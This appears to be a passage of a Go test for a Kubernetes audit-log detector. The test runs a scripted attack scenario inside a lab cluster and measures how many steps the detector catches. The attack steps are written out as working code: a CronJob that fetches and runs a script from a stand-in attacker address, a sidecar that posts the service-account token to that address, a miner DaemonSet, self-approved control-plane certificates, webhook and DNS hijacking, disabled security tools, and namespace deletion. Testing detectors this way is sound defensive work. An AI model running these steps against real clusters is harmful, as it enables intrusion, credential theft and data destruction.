						Containers: []corev1.Container{{Name: "debugger", Image: "busybox:1.36", Stdin: true, TTY: true,
							Command:         []string{"chroot", "/host"},
							SecurityContext: &corev1.SecurityContext{Privileged: ptr(true)},
							VolumeMounts:    []corev1.VolumeMount{{Name: "host-root", MountPath: "/host"}}}},
						Volumes: []corev1.Volume{{Name: "host-root", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}}},
				}, metav1.CreateOptions{})
				return err
			}},
		{name: "a18-static-lookalike-pod", attack: true, technique: "Persistence/masquerading: pod posing as a control-plane static pod (mirror annotations, system-node-critical, /etc/kubernetes mounted)",
			why: "the attacker plants kube-system/kube-scheduler-<node> with mirror-pod annotations and the node's credentials mounted",
			run: func() error {
				hash := "9b0f3c2d6a1e4f5b8c7d2e1f0a3b4c5d"
				_, err := npd.CoreV1().Pods("kube-system").Create(ctx, &corev1.Pod{
					ObjectMeta: metav1.ObjectMeta{Name: "kube-scheduler-" + c.NodeName, Labels: map[string]string{"component": "kube-scheduler", "tier": "control-plane"},
						Annotations: map[string]string{lab.ConfigMirrorAnnotationKey: hash, lab.ConfigHashAnnotationKey: hash, lab.ConfigSourceAnnotationKey: "file", lab.ConfigSeenAnnotationKey: time.Now().UTC().Format(time.RFC3339Nano)}},
					Spec: corev1.PodSpec{NodeName: c.NodeName, HostNetwork: true, PriorityClassName: "system-node-critical",
						Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpExists, Effect: corev1.TaintEffectNoExecute}},
						Containers: []corev1.Container{{Name: "kube-scheduler", Image: "registry.k8s.io/kube-scheduler:v1.36.3",
							Command:      []string{"kube-scheduler", "--kubeconfig=/etc/kubernetes/scheduler.conf", "--bind-address=127.0.0.1"},
							VolumeMounts: []corev1.VolumeMount{{Name: "kubeconfig", MountPath: "/etc/kubernetes"}}}},
						Volumes: []corev1.Volume{{Name: "kubeconfig", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/etc/kubernetes", Type: ptr(corev1.HostPathDirectory)}}}}},
				}, metav1.CreateOptions{})
				return err
			}},
		{name: "a19-hostpath-pod-refused", attack: true, technique: "Privilege escalation (refused): hostPath container-runtime socket in a tenant namespace (Bad Pods hostpath; KubeHound EXPLOIT_CONTAINERD_SOCK)",
			why: "the attacker tries a containerd-socket pod in the shop namespace; Pod Security (baseline) refuses it",
			run: func() error {
				_, err := npd.CoreV1().Pods("shop").Create(ctx, h3sockPod("web-debug", nil), metav1.CreateOptions{})
				return h3denied(err)
			}},
		{name: "a20-relabel-namespace-privileged", attack: true, technique: "Defence evasion: relabel a namespace to Pod Security 'privileged' (impair defences, T1562)",
			why: "the attacker lifts Pod Security enforcement on the tenant namespace",
			run: func() error {
				_, err := npd.CoreV1().Namespaces().Patch(ctx, "shop", types.MergePatchType, []byte(`{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}`), metav1.PatchOptions{})
				return err
			}},
		{name: "a21-masquerading-sock-pod", attack: true, technique: "Privilege escalation/masquerading: containerd socket pod named and labelled like a web replica (Threat Matrix 'pod name similarity')",
			before: func() error {
				return h3waitAdmitted(ctx, admin, "shop", h3sockPod("web-6d9f7c8b5-q2x4z", map[string]string{"app": "web", "pod-template-hash": "6d9f7c8b5"}))
			},
			why: "the retry passes: the attacker's pod hides among the web replicas and talks to the node's container runtime",
			run: func() error {
				_, err := npd.CoreV1().Pods("shop").Create(ctx, h3sockPod("web-6d9f7c8b5-q2x4z", map[string]string{"app": "web", "pod-template-hash": "6d9f7c8b5"}), metav1.CreateOptions{})
				return err
			}},
		{name: "a22-miner-daemonset", attack: true, technique: "Impact: resource hijacking with a DaemonSet on every node, control plane included (ATT&CK T1496; Dero/Kinsing campaigns)",
			why: "the attacker runs a privileged host-network 'proxy-api' DaemonSet tolerating every taint",
			run: func() error {
				lbl := map[string]string{"app": "proxy-api"}
				_, err := npd.AppsV1().DaemonSets("kube-system").Create(ctx, &appsv1.DaemonSet{
					ObjectMeta: metav1.ObjectMeta{Name: "proxy-api", Labels: lbl},
					Spec: appsv1.DaemonSetSpec{Selector: &metav1.LabelSelector{MatchLabels: lbl}, Template: corev1.PodTemplateSpec{
						ObjectMeta: metav1.ObjectMeta{Labels: lbl},
						Spec: corev1.PodSpec{HostNetwork: true, Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpExists}},
							Containers: []corev1.Container{{Name: "proxy-api", Image: "docker.io/kubeops/pause:3.10",
								Args:            []string{"--daemon-rpc-address", "198.51.100.23:10100", "--mining-threads", "8"},
								SecurityContext: &corev1.SecurityContext{Privileged: ptr(true)}}}}}},
				}, metav1.CreateOptions{})
				return err
			}},
		{name: "a23-backdoor-cronjob", attack: true, technique: "Persistence: CronJob running a privileged host-root container (Threat Matrix 'Kubernetes CronJob'; ATT&CK T1053.007)",
			why: "every ten minutes a 'kube-etcd-defrag' job fetches and runs the attacker's script on the host",
			run: func() error {
				_, err := npd.BatchV1().CronJobs("kube-system").Create(ctx, &batchv1.CronJob{
					ObjectMeta: metav1.ObjectMeta{Name: "kube-etcd-defrag"},
					Spec: batchv1.CronJobSpec{Schedule: "*/10 * * * *", JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{Template: corev1.PodTemplateSpec{
						Spec: corev1.PodSpec{RestartPolicy: corev1.RestartPolicyOnFailure, HostPID: true, HostNetwork: true,
							NodeSelector: map[string]string{"node-role.kubernetes.io/control-plane": ""},
							Tolerations:  []corev1.Toleration{{Operator: corev1.TolerationOpExists}},
							Containers: []corev1.Container{{Name: "defrag", Image: "alpine:3.20",
								Command:         []string{"chroot", "/host", "sh", "-c", "curl -fsSL http://198.51.100.23/k.sh | sh"},
								SecurityContext: &corev1.SecurityContext{Privileged: ptr(true)},
								VolumeMounts:    []corev1.VolumeMount{{Name: "host", MountPath: "/host"}}}},
							Volumes: []corev1.Volume{{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}}}}}}},
				}, metav1.CreateOptions{})
				return err
			}},
		{name: "a24-malicious-mutating-webhook", attack: true, technique: "Persistence/credential access: malicious admission controller (Threat Matrix; ATT&CK T1546)",
			why: "a webhook named like EKS' pod-identity-webhook sees (and could rewrite) every pod created, pointing at the attacker",
			run: func() error {
				_, err := npd.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx, &admissionregistrationv1.MutatingWebhookConfiguration{
					ObjectMeta: metav1.ObjectMeta{Name: "pod-identity-webhook"},
					Webhooks: []admissionregistrationv1.MutatingWebhook{{
						Name:         "iam-for-pods.amazonaws.com",
						ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: ptr("https://127.4.0.99:9443/mutate")},
						Rules: []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create},
							Rule: admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods"}}}},
						FailurePolicy: ptr(admissionregistrationv1.Ignore), SideEffects: ptr(admissionregistrationv1.SideEffectClassNone),
						AdmissionReviewVersions: []string{"v1"}, TimeoutSeconds: ptr(int32(2)), ReinvocationPolicy: ptr(admissionregistrationv1.IfNeededReinvocationPolicy),
					}},
				}, metav1.CreateOptions{})
				return err
			}},
		{name: "a25-delete-policy-webhook", attack: true, technique: "Defence evasion: delete the policy engine's validating webhook (impair defences, T1562.001)",
			why: "the attacker removes Kyverno's validating webhook configuration so no policy is checked",
			run: func() error {
				return npd.AdmissionregistrationV1().ValidatingWebhookConfigurations().Delete(ctx, "kyverno-resource-validating-webhook-cfg", metav1.DeleteOptions{})
			}},
		{name: "a26-downgrade-admission-policy", attack: true, technique: "Defence evasion: ValidatingAdmissionPolicyBinding switched from Deny to Audit (impair defences)",
			why: "the in-tree 'no privileged containers in tenants' policy keeps existing but no longer denies",
			run: func() error {
				_, err := npd.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings().Patch(ctx, "deny-privileged-containers-tenants", types.MergePatchType, []byte(`{"spec":{"validationActions":["Audit"]}}`), metav1.PatchOptions{})
				return err
			}},
		{name: "a27-scale-security-tool-to-zero", attack: true, technique: "Defence evasion: scale the policy controller to zero replicas (impair defences)",
			why: "the attacker stops the policy controller through the scale subresource (kubectl scale --replicas=0)",
			run: func() error {
				_, err := npd.AppsV1().Deployments("security").Patch(ctx, "policy-controller", types.MergePatchType, []byte(`{"spec":{"replicas":0}}`), metav1.PatchOptions{}, "scale")
				return err
			}},
		{name: "a28-daemonset-nodeselector-evasion", attack: true, technique: "Defence evasion: give the runtime sensor DaemonSet a nodeSelector no node matches",
			why: "DaemonSets cannot be scaled: the attacker makes the runtime sensor run nowhere",
			run: func() error {
				_, err := npd.AppsV1().DaemonSets("security").Patch(ctx, "runtime-sensor", types.StrategicMergePatchType, []byte(`{"spec":{"template":{"spec":{"nodeSelector":{"non-existing":"true"}}}}}`), metav1.PatchOptions{})
				return err
			}},
		{name: "a29-blank-sensor-rules", attack: true, technique: "Defence evasion: overwrite the security tool's rules ConfigMap",
			why: "in case it comes back, the runtime sensor's rules are replaced with nothing",
			run: func() error {
				cm, err := npd.CoreV1().ConfigMaps("security").Get(ctx, "runtime-sensor-config", metav1.GetOptions{})
				if err != nil {
					return err
				}
				cm.Data = map[string]string{"rules.yaml": "# maintenance window: rules disabled\n"}
				_, err = npd.CoreV1().ConfigMaps("security").Update(ctx, cm, metav1.UpdateOptions{})
				return err
			}},

		// ---------------- benign: operators renew, developers work, GitOps, SRE tightens
		{name: "b24-certmanager-renew", why: "cert-manager renews the TLS Secret it owns",
			run: func() error {
				_, err := certMgr.CoreV1().Secrets("shop").Update(ctx, h3tlsSecret("shop", "web-tls", "2"), metav1.UpdateOptions{FieldManager: "cert-manager-certificates-issuing"})
				return err
			}},
		{name: "b25-eso-refresh", why: "external-secrets refreshes a synced Secret (get, update)",
			run: func() error {
				s, err := eso.CoreV1().Secrets("payments").Get(ctx, "db-credentials", metav1.GetOptions{})
				if err != nil {
					return err
				}
				s.Data["value"] = []byte("rotated-by-vault")
				s.Annotations["reconcile.external-secrets.io/data-hash"] = "8d2e7b41"
				_, err = eso.CoreV1().Secrets("payments").Update(ctx, s, metav1.UpdateOptions{FieldManager: "external-secrets"})
				return err
			}},
		{name: "b26-dev-logs", why: "a shop developer reads a pod's logs in their namespace (fails after authorization: no kubelet)",
			before: func() error {
				return h3waitSAR(ctx, admin, "dana@corp", []string{"shop-devs", "system:authenticated"}, authorizationv1.ResourceAttributes{Verb: "get", Resource: "pods", Subresource: "log", Namespace: "shop"})
			},
			run: func() error {
				return h3pastAuthz(dana.CoreV1().Pods("shop").GetLogs("web-legacy-0", &corev1.PodLogOptions{Container: "web", TailLines: ptr(int64(100))}).Do(ctx).Error())
			}},
		{name: "b27-dev-edit-configmap", why: "the developer flips a feature flag in their namespace's ConfigMap",
			run: func() error {
				_, err := dana.CoreV1().ConfigMaps("shop").Patch(ctx, "feature-flags", types.MergePatchType, []byte(`{"data":{"new-checkout":"true"}}`), metav1.PatchOptions{})
				return err
			}},
		{name: "b28-gitops-image-bump", why: "Argo CD syncs a new image tag of web",
			run: func() error {
				_, err := argo.AppsV1().Deployments("shop").Patch(ctx, "web", types.ApplyPatchType, h3webDeployment("v1.8.3"), fm("argocd-controller"))
				return err
			}},
		{name: "b29-sre-psa-tighten", why: "the SRE raises Pod Security enforcement of the CI namespace to restricted",
			run: func() error {
				_, err := sam.CoreV1().Namespaces().Patch(ctx, "ci", types.MergePatchType, []byte(`{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"restricted","pod-security.kubernetes.io/enforce-version":"latest"}}}`), metav1.PatchOptions{})
				return err
			}},

		// ---------------- attack phase C continued: lateral movement, more persistence, impact
		{name: "a30-impersonate-sre", attack: true, technique: "Lateral movement/defence evasion: impersonate a human SRE (KubeHound IDENTITY_IMPERSONATE)",
			why: "the attacker reads the payments Secrets as sam@corp of group sre, so the access looks like the on-call engineer's",
			run: func() error {
				cfg := rest.CopyConfig(npdCfg)
				cfg.Impersonate = rest.ImpersonationConfig{UserName: "sam@corp", Groups: []string{"sre"}}
				_, err := cs(cfg).CoreV1().Secrets("payments").List(ctx, metav1.ListOptions{})
				return err
			}},
		{name: "a31-csr-controller-manager", attack: true, technique: "Persistence: CSR for a kube-apiserver client certificate of a control-plane identity (Stratus k8s.persistence.create-client-certificate)",
			why: "a CSR for CN=system:kube-controller-manager, named like a node bootstrap CSR",
			run: func() error {
				var req []byte
				req, csrKey = h3csr(t, "system:kube-controller-manager")
				_, err := npd.CertificatesV1().CertificateSigningRequests().Create(ctx, &certificatesv1.CertificateSigningRequest{
					ObjectMeta: metav1.ObjectMeta{Name: csrName},
					Spec: certificatesv1.CertificateSigningRequestSpec{Request: req, SignerName: certificatesv1.KubeAPIServerClientSignerName,
						Usages: []certificatesv1.KeyUsage{certificatesv1.UsageDigitalSignature, certificatesv1.UsageClientAuth}},
				}, metav1.CreateOptions{})
				return err
			}},
		{name: "a32-csr-self-approve", attack: true, technique: "Persistence: approve one's own CSR (approval subresource) and collect the certificate",
			why: "the attacker approves the CSR and fetches the signed certificate",
			run: func() error {
				csr, err := npd.CertificatesV1().CertificateSigningRequests().Get(ctx, csrName, metav1.GetOptions{})
				if err != nil {
					return err
				}
				csr.Status.Conditions = append(csr.Status.Conditions, certificatesv1.CertificateSigningRequestCondition{
					Type: certificatesv1.CertificateApproved, Status: corev1.ConditionTrue, Reason: "KubectlApprove", Message: "This CSR was approved by kubectl certificate approve."})
				if _, err := npd.CertificatesV1().CertificateSigningRequests().UpdateApproval(ctx, csrName, csr, metav1.UpdateOptions{}); err != nil {
					return err
				}
				if err := h3waitSigned(ctx, admin, csrName); err != nil {
					return err
				}
				csr, err = npd.CertificatesV1().CertificateSigningRequests().Get(ctx, csrName, metav1.GetOptions{})
				if err != nil {
					return err
				}
				keyDER, err := x509.MarshalECPrivateKey(csrKey)
				if err != nil {
					return err
				}
				cfg := &rest.Config{Host: c.URL, TLSClientConfig: rest.TLSClientConfig{CAFile: c.CACertPath, CertData: csr.Status.Certificate,
					KeyData: pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: keyDER})}}
				cfg = rec.wrap(cfg, "")
				cfg.Dial = h3dialer(h3AttackerIP)
				cfg.UserAgent = h3UAOldKubectl
				mintedCert = cs(cfg)
				return nil
			}},
		{name: "a33-use-minted-certificate", attack: true, technique: "Credential access/lateral movement: use the minted system:kube-controller-manager certificate from outside",
			why: "as the controller manager, from the attacker's address, the attacker lists kube-system Secrets",
			run: func() error {
				_, err := mintedCert.CoreV1().Secrets("kube-system").List(ctx, metav1.ListOptions{})
				return err
			}},
		{name: "a34-exec-into-payments-pod", attack: true, technique: "Execution: exec into a workload pod (Threat Matrix 'exec into container'; KubeHound POD_EXEC)",
			why: "the attacker tries to read the ledger database pod's token and environment (fails after authorization: no node)",
			run: func() error {
				return h3pastAuthz(npd.CoreV1().RESTClient().Post().Namespace("payments").Resource("pods").Name("ledger-db-0").SubResource("exec").
					Param("container", "ledger").Param("command", "sh").Param("command", "-c").Param("command", "env; cat /var/run/secrets/kubernetes.io/serviceaccount/token").
					Param("stdout", "true").Param("stderr", "true").Do(ctx).Error())
			}},
		{name: "a35-ephemeral-debug-container", attack: true, technique: "Execution/lateral movement: ephemeral container targeting the app's process namespace (kubectl debug; ATT&CK T1609)",
			why: "the attacker attaches a debug container to the ledger pod to reach its processes and files",
			run: func() error {
				_, err := npd.CoreV1().Pods("payments").Patch(ctx, "ledger-db-0", types.StrategicMergePatchType,
					[]byte(`{"spec":{"ephemeralContainers":[{"name":"debugger-x8k2q","image":"busybox:1.36","command":["sh"],"stdin":true,"tty":true,"targetContainerName":"ledger"}]}}`),
					metav1.PatchOptions{}, "ephemeralcontainers")
				return err
			}},
		{name: "a36-sidecar-injection", attack: true, technique: "Execution/persistence: sidecar injected into an existing Deployment (Threat Matrix 'sidecar injection')",
			why: "a JSON patch adds a 'log-shipper' container to payments/ledger that exfiltrates the mounted token",
			run: func() error {
				_, err := npd.AppsV1().Deployments("payments").Patch(ctx, "ledger", types.JSONPatchType,
					[]byte(`[{"op":"add","path":"/spec/template/spec/containers/-","value":{"name":"log-shipper","image":"docker.io/fluent-bit-io/fluent-bit:3.1","command":["sh","-c","while true; do wget -qO- --post-file=/var/run/secrets/kubernetes.io/serviceaccount/token http://198.51.100.23/t; sleep 3600; done"]}}]`),
					metav1.PatchOptions{})
				return err
			}},
		{name: "a37-token-for-gitops-sa", attack: true, technique: "Lateral movement: TokenRequest for a trusted controller's ServiceAccount (KubeHound IDENTITY_ASSUME; serviceaccounts/token)",
			why: "the attacker mints a 48-hour token of Argo CD's application controller to blend into GitOps traffic",
			run: func() error {
				tr, err := npd.CoreV1().ServiceAccounts("argocd").CreateToken(ctx, "argocd-application-controller", &authenticationv1.TokenRequest{Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: ptr(int64(48 * 3600))}}, metav1.CreateOptions{})
				if err != nil {
					return err
				}
				argoAtk = cs(mk(c.TokenKubeconfig(t, "h3-argo-stolen", tr.Status.Token), h3AttackerIP2, h3UAArgo))
				return nil
			}},
		{name: "a38-gitops-identity-binds-tenant-sas", attack: true, technique: "Persistence/privilege escalation: server-side applied ClusterRoleBinding of cluster-admin to every ServiceAccount of a tenant (tenancy break-out backdoor)",
			why: "as Argo CD (its field manager and user agent), from outside, the attacker makes any pod of the shop tenant cluster-admin",
			run: func() error {
				_, err := argoAtk.RbacV1().ClusterRoleBindings().Patch(ctx, "argocd-tenant-sync", types.ApplyPatchType, h3json(map[string]any{
					"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
					"metadata": map[string]any{"name": "argocd-tenant-sync", "labels": map[string]any{"argocd.argoproj.io/instance": "tenants"}},
					"roleRef":  map[string]any{"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
					"subjects": []any{map[string]any{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "system:serviceaccounts:shop"}},
				}), fm("argocd-controller"))
				return err
			}},
		{name: "a39-apiservice-hijack", attack: true, technique: "Persistence/collection: register an aggregated APIService served by the attacker (metrics.k8s.io hijack)",
			why: "the attacker registers v1beta1.metrics.k8s.io to a Service of theirs, without TLS verification; callers' requests flow to it",
			run: func() error {
				dyn, err := dynamic.NewForConfig(npdCfg)
				if err != nil {
					return err
				}
				obj := &unstructured.Unstructured{Object: map[string]any{
					"apiVersion": "apiregistration.k8s.io/v1", "kind": "APIService",
					"metadata": map[string]any{"name": "v1beta1.metrics.k8s.io", "labels": map[string]any{"k8s-app": "metrics-server"}},
					"spec": map[string]any{"group": "metrics.k8s.io", "version": "v1beta1", "insecureSkipTLSVerify": true,
						"groupPriorityMinimum": int64(100), "versionPriority": int64(100),
						"service": map[string]any{"namespace": "kube-system", "name": "metrics-server", "port": int64(443)}},
				}}
				_, err = dyn.Resource(schema.GroupVersionResource{Group: "apiregistration.k8s.io", Version: "v1", Resource: "apiservices"}).Create(ctx, obj, metav1.CreateOptions{})
				return err
			}},
		{name: "a40-coredns-poisoning", attack: true, technique: "Lateral movement/collection: CoreDNS ConfigMap poisoning (Threat Matrix 'CoreDNS poisoning')",
			why: "the attacker points the internal registry and the payments provider's name at an address of theirs",
			run: func() error {
				_, err := npd.CoreV1().ConfigMaps("kube-system").Patch(ctx, "coredns", types.MergePatchType, h3json(map[string]any{"data": map[string]any{"Corefile": h3corefile(true)}}), metav1.PatchOptions{})
				return err
			}},
		{name: "a41-delete-events", attack: true, technique: "Defence evasion: delete Kubernetes events (Threat Matrix 'Delete K8s events'; T1070)",
			why: "the attacker wipes the events of kube-system and shop that show their pods and DaemonSet",
			run: func() error {
				for _, ns := range []string{"kube-system", "shop"} {
					if err := npd.CoreV1().Events(ns).DeleteCollection(ctx, metav1.DeleteOptions{}, metav1.ListOptions{}); err != nil {
						return err
					}
				}
				return nil
			}},
		{name: "a42-delete-csr", attack: true, technique: "Defence evasion: remove the CSR that minted the certificate (indicator removal, T1070)",
			why: "the approved CSR is deleted so 'kubectl get csr' shows nothing",
			run: func() error {
				return npd.CertificatesV1().CertificateSigningRequests().Delete(ctx, csrName, metav1.DeleteOptions{})
			}},
		{name: "a43-delete-tenant-namespace", attack: true, technique: "Impact: data destruction, delete a tenant namespace (ATT&CK T1485)",
			why: "finally the attacker deletes the payments namespace with everything in it",
			run: func() error {
				return npd.CoreV1().Namespaces().Delete(ctx, "payments", metav1.DeleteOptions{})
			}},
	}

	// Run the script in its fixed order.
	stepsStart := time.Now()
	names := map[string]bool{}
	for _, s := range steps {
		if names[s.name] {
			t.Fatalf("duplicate step %s", s.name)
		}
		names[s.name] = true
		if s.before != nil {
			if err := s.before(); err != nil {
				t.Fatalf("%s: preparation: %v", s.name, err)
			}
		}
		rec.set(s.name)
		if err := s.run(); err != nil {
			t.Fatalf("step %s did not execute as intended: %v", s.name, err)
		}
	}
	rec.set("")
	stepsTime := time.Since(stepsStart)

	perStep := h3waitLogged(t, rec, c.AuditLogPath)
	for _, s := range steps {
		if perStep[s.name] == 0 {
			t.Errorf("step %s has no request in the audit log", s.name)
		}
	}
	if t.Failed() {
		t.FailNow()
	}

	scanStart := time.Now()
	stdout, stderr, code := runAPIGuard(t, "audit", "scan", c.AuditLogPath, "-o", "jsonl", "--fail-on", "none")
	if code != 0 {
		t.Fatalf("apiguard audit scan: exit %d\n%s", code, stderr)
	}
	scanTime := time.Since(scanStart)
	byStep := rec.alertsByStep(stdout)
	h3report(t, steps, byStep, perStep)
	t.Logf("timing: lab+setup %s, steps %s, scan %s, total %s", setupDone.Sub(began).Round(time.Millisecond), stepsTime.Round(time.Millisecond), scanTime.Round(time.Millisecond), time.Since(began).Round(time.Millisecond))
}

// h3alertSummary is one rule's alerts on one benign step.
type h3alertSummary struct {
	Step     string `json:"step"`
	Rule     string `json:"rule"`
	Severity string `json:"severity"`
	Count    int    `json:"count"`
}

// h3report logs the detection table and writes the JSON summary.
func h3report(t *testing.T, steps []h3step, byStep map[string]map[string][]alertLine, perStep map[string]int) {
	t.Helper()
	var b strings.Builder
	var attackSteps, detected, benignHigh, benignHighSteps, total int
	var missed []string
	benignAlerts := []h3alertSummary{}
	fmt.Fprintf(&b, "\n%-4s %-42s %-7s %s\n", "#", "step", "events", "alerts (rule:severity xN) or MISSED")
	for i, s := range steps {
		rules := byStep[s.name]
		var ids []string
		for r := range rules {
			ids = append(ids, r)
		}
		sort.Strings(ids)
		var parts []string
		high := false
		for _, r := range ids {
			al := rules[r]
			sev := h3maxSeverity(al)
			parts = append(parts, fmt.Sprintf("%s:%s x%d", r, sev, len(al)))
			total += len(al)
			if !s.attack {
				benignAlerts = append(benignAlerts, h3alertSummary{Step: s.name, Rule: r, Severity: sev, Count: len(al)})
				for _, a := range al {
					if h3isHigh(a.Severity) {
						benignHigh++
						high = true
					}
				}
			}
		}
		cell := strings.Join(parts, ", ")
		if s.attack {
			attackSteps++
			if len(ids) > 0 {
				detected++
			} else {
				missed = append(missed, s.name)
				cell = "MISSED"
			}
		} else {
			if high {
				benignHighSteps++
			}
			if cell == "" {
				cell = "-"
			}
		}
		kind := "B"
		if s.attack {
			kind = "A"
		}
		fmt.Fprintf(&b, "%s%-3d %-42s %-7d %s\n", kind, i+1, s.name, perStep[s.name], cell)
		if s.attack {
			fmt.Fprintf(&b, "     technique: %s\n", s.technique)
		}
	}
	outside := 0
	for _, al := range byStep[""] {
		outside += len(al)
	}
	rate := float64(detected) / float64(attackSteps)
	fmt.Fprintf(&b, "\ndetection rate: %d/%d attack steps = %.1f%%\n", detected, attackSteps, 100*rate)
	fmt.Fprintf(&b, "high/critical alerts on benign steps: %d (on %d of %d benign steps)\n", benignHigh, benignHighSteps, len(steps)-attackSteps)
	fmt.Fprintf(&b, "alerts on recorded steps: %d; alerts on unrecorded requests (setup, controllers): %d\n", total, outside)
	t.Log(b.String())

	if out := os.Getenv("APIGUARD_HELDOUT_OUT"); out != "" {
		if missed == nil {
			missed = []string{}
		}
		data, err := json.MarshalIndent(map[string]any{
			"attackSteps": attackSteps, "detected": detected, "rate": rate,
			"benignHigh": benignHigh, "missed": missed, "benignAlerts": benignAlerts,
		}, "", "  ")
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(out, append(data, '\n'), 0o644); err != nil {
			t.Fatalf("APIGUARD_HELDOUT_OUT: %v", err)
		}
		t.Logf("summary written to %s", out)
	}
}

func h3isHigh(sev string) bool {
	return strings.EqualFold(sev, "high") || strings.EqualFold(sev, "critical")
}

// h3maxSeverity is the highest severity among alerts (critical > high >
// medium > low > info; unknown names sort lowest).
func h3maxSeverity(al []alertLine) string {
	rank := map[string]int{"info": 1, "low": 2, "medium": 3, "high": 4, "critical": 5}
	best, bestRank := "", -1
	for _, a := range al {
		if r := rank[strings.ToLower(a.Severity)]; r > bestRank {
			best, bestRank = a.Severity, r
		}
	}
	return best
}

// h3waitLogged waits until every request rec recorded is in the audit log at
// its final stage (ResponseComplete, or ResponseStarted for a 401, which is
// never completed) and returns the number of such events per step.
func h3waitLogged(t *testing.T, rec *auditRecorder, path string) map[string]int {
	t.Helper()
	var perStep map[string]int
	eventually(t, 60*time.Second, "the recorded requests in the audit log", func() (bool, string) {
		final := map[string]bool{}
		eachLine(t, path, func(line []byte) {
			var ev struct {
				AuditID        string `json:"auditID"`
				Stage          string `json:"stage"`
				ResponseStatus *struct {
					Code int `json:"code"`
				} `json:"responseStatus"`
			}
			if json.Unmarshal(line, &ev) != nil {
				return
			}
			if ev.Stage == "ResponseComplete" || (ev.Stage == "ResponseStarted" && ev.ResponseStatus != nil && ev.ResponseStatus.Code == http.StatusUnauthorized) {
				final[ev.AuditID] = true
			}
		})
		rec.mu.Lock()
		defer rec.mu.Unlock()
		perStep = map[string]int{}
		var missing []string
		for id, step := range rec.steps {
			if step == "" {
				continue
			}
			if final[id] {
				perStep[step]++
			} else {
				missing = append(missing, step+" "+id)
			}
		}
		sort.Strings(missing)
		return len(missing) == 0, fmt.Sprintf("missing %q", missing)
	})
	return perStep
}

// h3setup creates the cluster the scenario runs in (as the admin, outside
// the recorded steps) and returns the identities' kubeconfigs.
func h3setup(ctx context.Context, t *testing.T, c *lab.Cluster, admin kubernetes.Interface) *h3world {
	t.Helper()
	must := func(what string, err error) {
		t.Helper()
		if err != nil && !apierrors.IsAlreadyExists(err) {
			t.Fatalf("setup: %s: %v", what, err)
		}
	}
	for _, ns := range []struct {
		name   string
		labels map[string]string
	}{
		{"observability", nil}, {"platform", nil}, {"argocd", nil}, {"cert-manager", nil}, {"external-secrets", nil}, {"ci", nil},
		{"shop", map[string]string{"tenant": "true", "team": "shop"}},
		{"payments", map[string]string{"tenant": "true", "team": "payments"}},
		{"security", map[string]string{"pod-security.kubernetes.io/enforce": "privileged"}},
	} {
		_, err := admin.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns.name, Labels: ns.labels}}, metav1.CreateOptions{})
		must("namespace "+ns.name, err)
	}
	for _, sa := range [][2]string{
		{"observability", "telemetry-agent"}, {"observability", "prometheus"}, {"platform", "tenant-provisioner"},
		{"argocd", "argocd-application-controller"}, {"cert-manager", "cert-manager"}, {"external-secrets", "external-secrets"}, {"ci", "runner"},
	} {
		_, err := admin.CoreV1().ServiceAccounts(sa[0]).Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: sa[1]}}, metav1.CreateOptions{})
		must("serviceaccount "+sa[0]+"/"+sa[1], err)
	}

	rw := []string{"get", "list", "watch", "create", "update", "patch", "delete"}
	ro := []string{"get", "list", "watch"}
	for _, cr := range []*rbacv1.ClusterRole{
		{ObjectMeta: metav1.ObjectMeta{Name: "telemetry-agent", Labels: map[string]string{"app.kubernetes.io/name": "telemetry-agent"}}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{""}, Resources: []string{"nodes", "nodes/metrics", "nodes/proxy", "nodes/stats", "pods", "services", "endpoints", "events", "namespaces", "secrets", "configmaps"}, Verbs: ro},
			{APIGroups: []string{"apps"}, Resources: []string{"deployments", "daemonsets", "replicasets", "statefulsets"}, Verbs: ro},
			{APIGroups: []string{"batch"}, Resources: []string{"jobs", "cronjobs"}, Verbs: ro},
			{APIGroups: []string{"authentication.k8s.io"}, Resources: []string{"tokenreviews"}, Verbs: []string{"create"}},
			{APIGroups: []string{"authorization.k8s.io"}, Resources: []string{"subjectaccessreviews"}, Verbs: []string{"create"}},
			{NonResourceURLs: []string{"/metrics", "/metrics/cadvisor"}, Verbs: []string{"get"}},
		}},
		{ObjectMeta: metav1.ObjectMeta{Name: "tenant-provisioner"}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{""}, Resources: []string{"namespaces", "serviceaccounts", "resourcequotas", "limitranges"}, Verbs: rw},
			{APIGroups: []string{""}, Resources: []string{"serviceaccounts/token"}, Verbs: []string{"create"}},
			{APIGroups: []string{"rbac.authorization.k8s.io"}, Resources: []string{"roles", "rolebindings", "clusterroles", "clusterrolebindings"}, Verbs: append(append([]string{}, rw...), "bind", "escalate")},
		}},
		{ObjectMeta: metav1.ObjectMeta{Name: "cert-manager-controller-certificates"}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: rw},
			{APIGroups: []string{""}, Resources: []string{"events"}, Verbs: []string{"create", "patch"}},
		}},
		{ObjectMeta: metav1.ObjectMeta{Name: "external-secrets-controller"}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: rw},
